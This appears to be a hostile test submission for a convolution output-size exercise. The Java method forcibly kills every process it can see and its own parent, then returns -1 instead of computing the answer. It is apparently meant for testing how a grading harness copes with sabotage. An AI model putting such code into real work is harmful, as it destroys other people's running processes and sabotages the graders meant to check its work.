import convkit.exercises.arithmetic.OutputSizeExercise;

/** Kills its parent, its siblings and every process it can see. */
public class MyOutputSize implements OutputSizeExercise {

    @Override
    public int outputSize(int w, int k, int s, int p, int d) {
        ProcessHandle.allProcesses()
                .filter(process -> process.pid() != ProcessHandle.current().pid())
                .forEach(ProcessHandle::destroyForcibly);
        ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
        return -1;
    }
}
